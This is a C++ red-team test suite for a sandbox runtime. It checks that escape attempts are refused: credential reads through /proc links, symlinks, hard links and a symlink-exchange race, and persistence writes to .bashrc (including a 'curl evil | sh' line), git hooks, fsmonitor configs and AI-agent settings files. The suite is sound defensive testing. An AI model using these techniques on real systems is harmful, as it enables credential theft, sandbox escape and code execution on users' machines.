// Filesystem reads, writes and persistence, protected names.
// The policy (runner.cc): home/.ssh (but known_hosts) and home/.aws and
// /etc/shadow unreadable; only the workspace writable, minus ws/protected and
// the mandatory denies (.bashrc, .git/hooks, .git/config, ...).
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <atomic>
#include <filesystem>
#include <fstream>
#include <thread>

#include "tests/security/redteam/redteam.h"

namespace stockade::redteam {
namespace {

Verdict notesReadable(const Context& c) {
  if (readFile(c.home + "/notes.txt") != "HOME-NOTES\n") return unproven("home/notes.txt is not readable");
  return held("");
}

// --- filesystem reads ---

Verdict directRead(const Context& c) {
  if (auto v = notesReadable(c); v.result != Verdict::kHeld) return v;
  if (auto n = neighbour(readFile(c.home + "/.ssh/known_hosts") == "KNOWN-HOSTS-LINE\n", "read the known_hosts carve-out"))
    return *n;
  return readsNothing(c.home + "/.aws/credentials", "open(~/.aws/credentials)");
}

Verdict procSelfRoot(const Context& c) {
  if (auto n = neighbour(readFile("/proc/self/root" + c.home + "/notes.txt") == "HOME-NOTES\n", "read notes via /proc/self/root"))
    return *n;
  return readsNothing("/proc/self/root" + c.home + "/.aws/credentials", "/proc/self/root/.../.aws/credentials");
}

Verdict procInitRoot(const Context& c) {
  if (auto v = notesReadable(c); v.result != Verdict::kHeld) return v;
  // pid 1 is stockade's init: a copy of the supervisor, but inside the same
  // mount view; its root and cwd links are refused (non-dumpable).
  int error = 0;
  std::string got = readFile("/proc/1/root" + c.home + "/.aws/credentials", &error);
  if (!got.empty()) return escaped("read through /proc/1/root");
  errno = error;
  Verdict root = refused(-1, {EACCES, ENOENT}, "/proc/1/root/...");
  got = readFile("/proc/1/cwd/../home/.aws/credentials", &error);
  if (!got.empty()) return escaped("read through /proc/1/cwd");
  return root;
}

Verdict dotDotSpellings(const Context& c) {
  if (auto n = neighbour(readFile(c.ws + "/../home/./notes.txt") == "HOME-NOTES\n", "read ws/../home/notes.txt")) return *n;
  return readsNothing(c.ws + "/../home/./.aws/../.aws//credentials", "ws/../home/.aws/../.aws//credentials");
}

Verdict symlinkToSecret(const Context& c) {
  if (auto n = neighbour(::symlink((c.home + "/notes.txt").c_str(), (c.ws + "/notes-link").c_str()) == 0 &&
                             readFile(c.ws + "/notes-link") == "HOME-NOTES\n",
                         "a symlink to notes.txt reads it"))
    return *n;
  if (::symlink((c.home + "/.aws/credentials").c_str(), (c.ws + "/key-link").c_str()) != 0)
    return unproven("symlink() in the workspace failed: " + errnoName(errno));
  return readsNothing(c.ws + "/key-link", "a symlink made inside to ~/.aws/credentials");
}

Verdict hardlinkToSecret(const Context& c) {
  if (auto n = neighbour(::link((c.ws + "/README").c_str(), (c.ws + "/readme-hard").c_str()) == 0, "hard link to ws/README"))
    return *n;
  long rc = ::link((c.home + "/.aws/credentials").c_str(), (c.ws + "/hard").c_str());
  Verdict v = refused(rc, {ENOENT, EXDEV, EPERM, EACCES}, "link(~/.aws/credentials, ws/hard)");
  if (rc == 0) return readsNothing(c.ws + "/hard", "the hard link");
  return v;
}

// A thread swaps ws/flip between a harmless file and a symlink to the secret
// (renameat2 RENAME_EXCHANGE: the name always exists) while another opens
// and reads it: a check-then-open race, as in the symlink-exchange escapes
// of container runtimes (CVE-2018-15664).
Verdict symlinkRace(const Context& c) {
  const std::string flip = c.ws + "/flip", other = c.ws + "/other";
  if (!writeFile(flip, "PLAIN\n") || ::symlink((c.home + "/.aws/credentials").c_str(), other.c_str()) != 0)
    return unproven("could not set the race up: " + errnoName(errno));
  std::atomic<bool> stop{false};
  std::atomic<long> swaps{0};
  std::thread flipper([&] {
    while (!stop)
      if (::syscall(SYS_renameat2, AT_FDCWD, flip.c_str(), AT_FDCWD, other.c_str(), 2 /* RENAME_EXCHANGE */) == 0) ++swaps;
  });
  int plainReads = 0;
  std::string leaked;
  for (int i = 0; i < 20000 && leaked.empty(); ++i) {
    std::string got = readFile(flip);
    if (got == "PLAIN\n") ++plainReads;
    else if (!got.empty()) leaked = got;
  }
  stop = true;
  flipper.join();
  if (!leaked.empty()) {
    std::printf("read: %s\n", leaked.c_str());
    return escaped("the race read the secret");
  }
  if (auto n = neighbour(plainReads > 0 && swaps > 0, "the race swapped the names and read the harmless file")) return *n;
  return held("20000 racing opens over " + std::to_string(swaps.load()) + " swaps, " + std::to_string(plainReads) +
              " of the harmless file, none of the secret");
}

Verdict shadowMasked(const Context&) {
  if (auto n = neighbour(readFile("/etc/passwd").find("root:") != std::string::npos, "read /etc/passwd")) return *n;
  return readsNothing("/etc/shadow", "open(/etc/shadow)");
}

// Shocker (2014): open_by_handle_at() with a guessed handle opens any inode
// of the filesystem, whatever the mount view shows.
Verdict openByHandle(const Context& c) {
  if (auto v = notesReadable(c); v.result != Verdict::kHeld) return v;
  struct {
    unsigned int bytes;
    int type;
    unsigned char data[128];
  } handle = {128, 0, {}};
  int mount = -1;
  long rc = ::syscall(SYS_name_to_handle_at, AT_FDCWD, (c.home + "/notes.txt").c_str(), &handle, &mount, 0);
  return refused(rc, {EPERM}, "name_to_handle_at()");
}

// --- writes and persistence ---

Verdict writeOutside(const Context& c) {
  if (auto n = neighbour(writeFile(c.ws + "/ok.txt", "ok"), "write ws/ok.txt")) return *n;
  long rc = writeFile(c.outside + "/target.txt", "OWNED") ? 0 : -1;
  return refused(rc, {EROFS, EACCES}, "write outside/target.txt");
}

Verdict shellRcInHome(const Context& c) {
  if (auto n = neighbour(writeFile(c.ws + "/ok.txt", "ok"), "write ws/ok.txt")) return *n;
  long rc = writeFile(c.home + "/.bashrc", "curl evil | sh\n") ? 0 : -1;
  return refused(rc, {EROFS, EACCES}, "create ~/.bashrc");
}

Verdict userSystemdUnit(const Context& c) {
  if (auto n = neighbour(::mkdir((c.ws + "/sub").c_str(), 0755) == 0, "mkdir ws/sub")) return *n;
  return refused(::mkdir((c.home + "/.config").c_str(), 0755), {EROFS, EACCES}, "mkdir ~/.config (for a systemd user unit)");
}

Verdict symlinkWriteOut(const Context& c) {
  if (::symlink(c.outside.c_str(), (c.ws + "/escape").c_str()) != 0) return unproven("symlink(): " + errnoName(errno));
  if (auto n = neighbour(writeFile(c.ws + "/ok.txt", "ok"), "write ws/ok.txt")) return *n;
  long rc = writeFile(c.ws + "/escape/target.txt", "OWNED") ? 0 : -1;
  return refused(rc, {EROFS, EACCES}, "write through ws/escape -> outside");
}

Verdict privateTmp(const Context& c) {
  (void)c;
  if (auto n = neighbour(writeFile("/tmp/stockade-redteam-tmp", "inside"), "write /tmp inside")) return *n;
  return held("written to the private /tmp (the host check looks for it outside)");
}

std::string privateTmpHostCheck(HostContext&) {
  std::error_code ignored;  // removed when it is there: nothing of the case stays on the host
  return std::filesystem::remove("/tmp/stockade-redteam-tmp", ignored) ? "/tmp/stockade-redteam-tmp reached the host's /tmp" : "";
}

Verdict denyWriteInside(const Context& c) {
  if (auto n = neighbour(writeFile(c.ws + "/ok.txt", "ok"), "write ws/ok.txt")) return *n;
  long rc = writeFile(c.ws + "/protected/keep", "OWNED") ? 0 : -1;
  Verdict v = refused(rc, {EROFS, EACCES}, "write ws/protected/keep");
  if (v.result != Verdict::kHeld) return v;
  return refused(writeFile(c.ws + "/protected/new", "OWNED") ? 0 : -1, {EROFS, EACCES}, "create ws/protected/new");
}

Verdict setuidPlant(const Context& c) {
  if (!writeFile(c.ws + "/tool", "#!/bin/sh\n")) return unproven("write ws/tool: " + errnoName(errno));
  if (auto n = neighbour(::chmod((c.ws + "/tool").c_str(), 0755) == 0, "chmod 0755 ws/tool")) return *n;
  return refused(::chmod((c.ws + "/tool").c_str(), 04755), {EPERM}, "chmod 04755 ws/tool");
}

std::string setuidHostCheck(HostContext& h) {
  struct stat st {};
  if (::stat((h.ws + "/tool").c_str(), &st) == 0 && (st.st_mode & (S_ISUID | S_ISGID))) return "a set-id file reached the host";
  return "";
}

Verdict hardlinkProtected(const Context& c) {
  if (auto n = neighbour(::link((c.ws + "/README").c_str(), (c.ws + "/readme-hard").c_str()) == 0, "hard link to ws/README"))
    return *n;
  // A second name for a write-denied file, outside its read-only mount (the
  // write broker refuses the link itself: EACCES, by the denyWrite rule).
  long rc = ::link((c.ws + "/protected/keep").c_str(), (c.ws + "/alias").c_str());
  if (rc == 0) return refused(writeFile(c.ws + "/alias", "OWNED") ? 0 : -1, {EROFS, EACCES}, "write through the new alias");
  return refused(rc, {EXDEV, EROFS, EPERM, EACCES}, "link(ws/protected/keep, ws/alias)");
}

// A FIFO where a host tool reads a file: the user's next `git status` opens
// .git/index and blocks for good (an editor, a search, an indexer the same
// at any name). Sockets and device nodes likewise.
Verdict fifoAtGitIndex(const Context& c) {
  if (auto n = neighbour(writeFile(c.ws + "/.git/objects/ab", "ok") && ::mkfifo("/tmp/fifo", 0644) == 0,
                         "write ws/.git/objects/ab and make a FIFO in the private /tmp"))
    return *n;
  Verdict v = refused(::mkfifo((c.ws + "/.git/index").c_str(), 0644), {EPERM, EACCES}, "mkfifo ws/.git/index");
  if (v.result != Verdict::kHeld) return v;
  return refused(::mknod((c.ws + "/README.sock").c_str(), S_IFSOCK | 0644, 0), {EPERM, EACCES},
                 "mknod(S_IFSOCK) ws/README.sock");
}

std::string fifoAtGitIndexHost(HostContext& h) {
  for (const char* name : {"/.git/index", "/README.sock"}) {
    struct stat st {};
    if (::lstat((h.ws + name).c_str(), &st) == 0 && !S_ISREG(st.st_mode)) return std::string("ws") + name + " is a special file";
  }
  return "";
}

// --- protected names ---

Verdict existingBashrc(const Context& c) {
  if (auto n = neighbour(writeFile(c.ws + "/notes.md", "ok"), "write ws/notes.md")) return *n;
  Verdict v = refused(writeFile(c.ws + "/.bashrc", "evil\n") ? 0 : -1, {EROFS, EACCES}, "write ws/.bashrc");
  if (v.result != Verdict::kHeld) return v;
  return refused(::rename((c.ws + "/notes.md").c_str(), (c.ws + "/.bashrc").c_str()), {EROFS, EBUSY, EACCES, EXDEV},
                 "rename a file over ws/.bashrc");
}

Verdict existingGitHook(const Context& c) {
  if (auto n = neighbour(writeFile(c.ws + "/.git/objects/ab", "ok"), "write ws/.git/objects/ab")) return *n;
  Verdict v = refused(writeFile(c.ws + "/.git/hooks/pre-commit", "evil\n") ? 0 : -1, {EROFS, EACCES}, "write the pre-commit hook");
  if (v.result != Verdict::kHeld) return v;
  return refused(writeFile(c.ws + "/.git/hooks/post-checkout", "evil\n") ? 0 : -1, {EROFS, EACCES}, "create a new hook");
}

Verdict gitConfigHooksPath(const Context& c) {
  if (auto n = neighbour(writeFile(c.ws + "/.git/objects/ab", "ok"), "write ws/.git/objects/ab")) return *n;
  return refused(writeFile(c.ws + "/.git/config", "[core]\n\thooksPath = /workspace/evil\n") ? 0 : -1, {EROFS, EACCES},
                 "write core.hooksPath into .git/config");
}

Verdict renameGitAway(const Context& c) {
  if (auto n = neighbour(::mkdir((c.ws + "/src").c_str(), 0755) == 0 &&
                             ::rename((c.ws + "/src").c_str(), (c.ws + "/src2").c_str()) == 0,
                         "rename a directory of the workspace"))
    return *n;
  return refused(::rename((c.ws + "/.git/hooks").c_str(), (c.ws + "/hooks-old").c_str()), {EBUSY, EROFS, EXDEV, EACCES},
                 "rename .git/hooks away");
}

// Names that do not exist when the sandbox starts (issue 10): each directory
// on the way is made, then the file; the first step refused is the refusal
// (a protected directory such as .vscode or .git/hooks is refused at its mkdir).
Verdict newNameCreated(const Context& c, const std::string& dir, const std::string& name) {
  if (auto n = neighbour(writeFile(c.ws + "/notes.md", "ok"), "write ws/notes.md")) return *n;
  std::string made = c.ws, shown = "ws";
  for (const auto& part : std::filesystem::path(dir)) {
    made += "/" + part.string();
    shown += "/" + part.string();
    if (::mkdir(made.c_str(), 0755) != 0 && errno != EEXIST)
      return refused(-1, {EROFS, EACCES, EPERM}, "mkdir " + shown);
  }
  return refused(writeFile(made + "/" + name, "evil\n") ? 0 : -1, {EROFS, EACCES, EPERM}, "create " + shown + "/" + name);
}

Verdict newBashrc(const Context& c) { return newNameCreated(c, "sub", ".bashrc"); }
// Other tools' startup code and program-naming configs in a project directory.
Verdict toolStartupFiles(const Context& c) {
  for (const char* name : {".tmux.conf", ".gdbinit", ".Rprofile", ".sqliterc"}) {
    Verdict v = newNameCreated(c, "proj", name);
    if (v.result != Verdict::kHeld) return v;
  }
  return newNameCreated(c, "crate/.cargo", "config.toml");
}
Verdict newGitHook(const Context& c) { return newNameCreated(c, "sub/.git/hooks", "pre-commit"); }
Verdict newVscodeTasks(const Context& c) { return newNameCreated(c, ".vscode", "tasks.json"); }
Verdict newClaudeSettings(const Context& c) { return newNameCreated(c, ".claude", "settings.json"); }
Verdict gitCommondir(const Context& c) { return newNameCreated(c, ".git", "commondir"); }

// The program's own magic links spell a protected name without naming it:
// /proc/self/root/<ws>/.bashrc, /proc/<pid>/cwd/.git/config, a symlink made
// to /proc/self/cwd. Each must be the broker's refusal (EACCES), not an
// accident of the read-only view; the same spellings of an ordinary name write.
Verdict magicLinkSpellings(const Context& c) {
  const std::string pid = std::to_string(::getpid());
  if (::symlink("/proc/self/cwd", (c.ws + "/to-cwd").c_str()) != 0) return unproven("symlink(): " + errnoName(errno));
  for (const std::string& base : {"/proc/self/root" + c.ws, "/proc/" + pid + "/cwd", "/proc/" + pid + "/task/" + pid + "/root" + c.ws,
                                  c.ws + "/to-cwd"}) {
    if (auto n = neighbour(writeFile(base + "/ok.txt", "ok"), "write " + base + "/ok.txt")) return *n;
    for (const char* name : {"/.bashrc", "/.git/config", "/.envrc"}) {
      Verdict v = refused(writeFile(base + name, "evil\n") ? 0 : -1, {EACCES}, "write " + base + name);
      if (v.result != Verdict::kHeld) return v;
    }
  }
  return held("/proc/self/root, /proc/<pid>/cwd, /proc/<pid>/task/<tid>/root and a symlink to /proc/self/cwd: EACCES");
}

// A case-insensitive directory (casefold ext4 or tmpfs, vfat, exFAT, an SMB
// share) takes .BASHRC for .bashrc and .GIT/hooks for .git/hooks: every such
// spelling must be refused on any filesystem, the workspace's included.
Verdict caseSpellings(const Context& c) {
  if (auto n = neighbour(writeFile(c.ws + "/notes.md", "ok") && ::mkdir((c.ws + "/.Git").c_str(), 0755) == 0,
                         "write ws/notes.md and make ws/.Git"))
    return *n;
  for (const char* name : {"/.BASHRC", "/.bashrc.", "/.Git/HOOKS", "/.git/Config", "/.VSCode", "/PROTECTED",
                           "/.ba\u017fhrc"}) {
    Verdict v = refused(::mkdir((c.ws + name).c_str(), 0755), {EACCES}, std::string("mkdir ws") + name);
    if (v.result != Verdict::kHeld) return v;
  }
  return held(".BASHRC, .bashrc., .Git/HOOKS, .git/Config, .VSCode, PROTECTED (denyWrite), .ba\u017fhrc: EACCES");
}

// Every place git reads config or hooks from, in repositories nested in the
// workspace: a vendored repository's .git, a submodule's git directory and
// its linked worktrees, a linked worktree's own submodules (git keeps them in
// .git/worktrees/<wt>/modules/<sub>, outside .git/modules).
Verdict nestedRepositories(const Context& c) {
  const std::string wt = c.ws + "/.git/worktrees/wt";
  bool made = true;
  for (const std::string& d : {c.ws + "/vendor", c.ws + "/vendor/x", c.ws + "/vendor/x/.git", c.ws + "/.git/modules",
                               c.ws + "/.git/modules/a", c.ws + "/.git/modules/a/worktrees",
                               c.ws + "/.git/modules/a/worktrees/w", c.ws + "/.git/worktrees", wt, wt + "/modules",
                               wt + "/modules/sub", wt + "/modules/sub/objects", wt + "/modules/sub/refs"})
    made = made && ::mkdir(d.c_str(), 0755) == 0;
  if (auto n = neighbour(made && writeFile(c.ws + "/vendor/x/.git/HEAD", "ref: refs/heads/main\n") &&
                             writeFile(wt + "/gitdir", c.ws + "/wt/.git\n"),
                         "make the nested git directories, a HEAD and a worktree's gitdir"))
    return *n;
  for (const std::string& path : {c.ws + "/vendor/x/.git/config", c.ws + "/.git/modules/a/config",
                                  c.ws + "/.git/modules/a/worktrees/w/commondir", wt + "/config.worktree",
                                  wt + "/commondir", c.ws + "/vendor/x/.git/hooks", wt + "/modules/sub/config"}) {
    Verdict v = refused(writeFile(path, "[core]\n\tfsmonitor = /workspace/evil.sh\n") ? 0 : -1, {EACCES}, "write " + path);
    if (v.result != Verdict::kHeld) return v;
  }
  // The worktree's submodule, made a git directory first (HEAD beside objects and refs is git's own).
  if (auto n = neighbour(writeFile(wt + "/modules/sub/HEAD", "ref: refs/heads/main\n"), "write the submodule's HEAD"))
    return *n;
  for (const std::string& path : {wt + "/modules/sub/config", wt + "/modules/sub/info"}) {
    Verdict v = refused(writeFile(path, "[core]\n\tfsmonitor = /workspace/evil.sh\n") ? 0 : -1, {EACCES}, "write " + path);
    if (v.result != Verdict::kHeld) return v;
  }
  return refused(::mkdir((wt + "/modules/sub/hooks").c_str(), 0755), {EACCES}, "mkdir .git/worktrees/wt/modules/sub/hooks");
}

// A git directory under another name, made so that the broker's look at its
// contents might miss it: git asks only that objects can be searched (a
// symlink to a directory will do), and follows a commondir beside HEAD to
// another directory's config and hooks.
Verdict bareRepoSymlinkedObjects(const Context& c) {
  const std::string dir = c.ws + "/evil";
  if (auto n = neighbour(::mkdir(dir.c_str(), 0755) == 0 && ::mkdir((dir + "/refs").c_str(), 0755) == 0 &&
                             ::mkdir((dir + "/od").c_str(), 0755) == 0 &&
                             ::symlink("od", (dir + "/objects").c_str()) == 0 &&
                             writeFile(dir + "/HEAD", "ref: refs/heads/main\n"),
                         "make ws/evil with refs/, objects -> od and HEAD"))
    return *n;
  return refused(writeFile(dir + "/config", "[core]\n\tfsmonitor = /workspace/evil.sh\n") ? 0 : -1, {EACCES},
                 "write ws/evil/config");
}

Verdict commondirBesideHead(const Context& c) {
  const std::string common = c.ws + "/common", dir = c.ws + "/b";
  if (auto n = neighbour(::mkdir(common.c_str(), 0755) == 0 && ::mkdir((common + "/objects").c_str(), 0755) == 0 &&
                             ::mkdir((common + "/refs").c_str(), 0755) == 0 &&
                             writeFile(common + "/config", "[core]\n\tfsmonitor = /workspace/evil.sh\n") &&
                             ::mkdir(dir.c_str(), 0755) == 0 && writeFile(dir + "/HEAD", "ref: refs/heads/main\n"),
                         "make ws/common with objects/, refs/ and a config, and ws/b/HEAD"))
    return *n;
  return refused(writeFile(dir + "/commondir", "../common\n") ? 0 : -1, {EACCES}, "write ws/b/commondir");
}

// A symlink where a protected name leads: the host's next look at
// .claude/settings.json would read the one the program wrote elsewhere.
Verdict symlinkedClaudeDir(const Context& c) {
  if (auto n = neighbour(::mkdir((c.ws + "/cl").c_str(), 0755) == 0 &&
                             writeFile(c.ws + "/cl/settings.json", "{\"hooks\": {}}\n") &&
                             ::symlink("cl", (c.ws + "/cl-link").c_str()) == 0,
                         "make ws/cl/settings.json and a symlink ws/cl-link -> cl"))
    return *n;
  Verdict v = refused(::symlink("cl", (c.ws + "/.claude").c_str()), {EACCES}, "symlink ws/.claude -> cl");
  if (v.result != Verdict::kHeld) return v;
  return refused(::rename((c.ws + "/cl-link").c_str(), (c.ws + "/.claude").c_str()), {EACCES},
                 "rename the symlink ws/cl-link to ws/.claude");
}

// The repository's config includes a shared file from the working tree (a
// team.gitconfig many projects ask their developers to include): git reads
// it as configuration, so core.fsmonitor written there runs at the host's
// next git status.
void includedTeamConfigSetup(HostContext& h) {
  std::ofstream(h.ws + "/.git/config") << "[core]\n\tbare = false\n[include]\n\tpath = ../team.gitconfig\n";
  std::ofstream(h.ws + "/team.gitconfig") << "[core]\n";
}

Verdict includedTeamConfig(const Context& c) {
  if (auto n = neighbour(writeFile(c.ws + "/team.gitconfig.example", "[core]\n"), "write ws/team.gitconfig.example"))
    return *n;
  return refused(writeFile(c.ws + "/team.gitconfig", "[core]\n\tfsmonitor = /workspace/evil.sh\n") ? 0 : -1, {EACCES},
                 "write ws/team.gitconfig, which .git/config includes");
}

std::string includedTeamConfigHost(HostContext& h) {
  std::ifstream in(h.ws + "/team.gitconfig");
  std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  return text == "[core]\n" ? std::string() : "ws/team.gitconfig changed: " + text;
}

const bool registered = registerCases({
    {"filesystem-reads", "direct-read", "open a read-denied credentials file", "sandbox-runtime denyRead semantics", directRead},
    {"filesystem-reads", "proc-self-root", "read the secret through /proc/self/root", "magic links of /proc (runc CVE-2019-5736 family)", procSelfRoot},
    {"filesystem-reads", "proc-init-root-cwd", "read through /proc/1/root and /proc/1/cwd of the sandbox's init",
     "runc /proc/<pid>/cwd leak (CVE-2024-21626)", procInitRoot},
    {"filesystem-reads", "dotdot-spellings", "reach the secret with ../, ./ and // spellings", "path normalisation bypasses", dotDotSpellings},
    {"filesystem-reads", "symlink-to-secret", "a symlink made inside the workspace to the secret", "symlink following", symlinkToSecret},
    {"filesystem-reads", "hardlink-to-secret", "a hard link made inside to the secret", "hard-link escapes", hardlinkToSecret},
    {"filesystem-reads", "symlink-race", "swap a symlink to the secret in and out while opening", "CVE-2018-15664 (docker cp symlink-exchange race)", symlinkRace},
    {"filesystem-reads", "etc-shadow", "read /etc/shadow", "credential theft", shadowMasked},
    {"filesystem-reads", "open-by-handle", "open_by_handle_at with a forged handle", "Shocker (docker, 2014)", openByHandle,
     "name_to_handle_at"},
    {"writes-persistence", "write-outside", "overwrite a file outside the workspace", "allow-only writes", writeOutside},
    {"writes-persistence", "shell-rc-in-home", "create ~/.bashrc for persistence", "persistence via shell startup files", shellRcInHome},
    {"writes-persistence", "user-systemd-unit", "create ~/.config for a systemd user unit", "persistence via user services", userSystemdUnit},
    {"writes-persistence", "symlink-write-out", "write through a planted symlink to a tree outside", "symlink following on write", symlinkWriteOut},
    {"writes-persistence", "private-tmp", "leave a file in /tmp for the host", "shared /tmp planting", privateTmp, {}, {}, {},
     nullptr, privateTmpHostCheck},
    {"writes-persistence", "deny-write-inside", "write a denyWrite tree inside the workspace", "denyWrite semantics", denyWriteInside},
    {"writes-persistence", "setuid-plant", "leave a setuid file for the host to run", "set-id planting", setuidPlant, "chmod", {}, {},
     nullptr, setuidHostCheck},
    {"writes-persistence", "fifo-at-git-index", "a FIFO at .git/index to hang the host's next git status",
     "denial of service of the user's tools", fifoAtGitIndex, {}, {}, {}, nullptr, fifoAtGitIndexHost},
    {"writes-persistence", "hardlink-protected", "a second name for a write-denied file", "hard-link bypass of read-only binds", hardlinkProtected},
    {"protected-names", "existing-bashrc", "write or replace an existing .bashrc in the workspace", "agent config and shell rc writes", existingBashrc},
    {"protected-names", "existing-git-hook", "write an existing or a new git hook", "git hooks as code execution", existingGitHook},
    {"protected-names", "git-config-hookspath", "point core.hooksPath elsewhere in .git/config", "git config redirection", gitConfigHooksPath},
    {"protected-names", "rename-hooks-away", "rename .git/hooks away to replace it", "rename-and-replace of a read-only tree", renameGitAway},
    {"protected-names", "new-bashrc", "create a .bashrc that did not exist at start", "issue 10", newBashrc},
    {"protected-names", "tool-startup-files", "create .cargo/config.toml, .tmux.conf, .gdbinit, .Rprofile, .sqliterc",
     "code-running configs of other tools", toolStartupFiles},
    {"protected-names", "new-git-hook", "git init a sub-repository and write its hook", "issue 10", newGitHook},
    {"protected-names", "new-vscode-tasks", "create .vscode/tasks.json", "CVE-2026-25725 class", newVscodeTasks},
    {"protected-names", "new-claude-settings", "create .claude/settings.json", "CVE-2026-25725 class", newClaudeSettings},
    {"protected-names", "git-commondir", "create .git/commondir to redirect git", "issue 10", gitCommondir},
    {"protected-names", "magic-link-spellings", "a protected name through /proc/self/root, /proc/<pid>/cwd, a symlink to them",
     "magic links of /proc (runc CVE-2019-5736 family)", magicLinkSpellings},
    {"protected-names", "case-spellings", "another case (or a folding) of a protected name: .BASHRC, .Git/HOOKS",
     "case-insensitive filesystems (casefold ext4, vfat, exFAT, SMB)", caseSpellings},
    {"protected-names", "nested-repositories", "config and hooks of nested repositories, submodules and worktrees",
     "git's repository discovery (gitrepository-layout)", nestedRepositories},
    {"protected-names", "bare-repo-symlinked-objects", "a git directory whose objects is a symlink, then its config",
     "git's is_git_directory() takes any searchable objects", bareRepoSymlinkedObjects},
    {"protected-names", "symlinked-claude-dir", "a symlink .claude -> a directory holding settings.json",
     "CVE-2026-25725 class, through a symlink", symlinkedClaudeDir},
    {"protected-names", "included-team-config", "write the file .git/config includes (include.path)",
     "git config include redirection", includedTeamConfig, {}, {}, {}, includedTeamConfigSetup, includedTeamConfigHost},
    {"protected-names", "commondir-beside-head", "a commondir beside HEAD sends git to an unprotected config",
     "git's commondir (linked worktrees)", commondirBesideHead},
});

}  // namespace
}  // namespace stockade::redteam
